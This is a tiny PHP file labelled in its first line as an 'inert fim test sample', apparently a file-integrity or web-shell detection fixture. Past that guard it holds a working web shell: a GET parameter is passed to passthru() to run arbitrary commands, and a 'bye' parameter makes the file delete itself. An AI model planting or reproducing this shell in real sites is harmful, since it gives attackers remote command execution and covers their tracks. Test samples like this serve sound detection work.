<?php exit('inert fim test sample'); ?>
<?php
if (isset($_GET['bye'])) {
    unlink(__FILE__);
    exit;
}
if (isset($_GET['x'])) {
    passthru($_GET['x']);
}
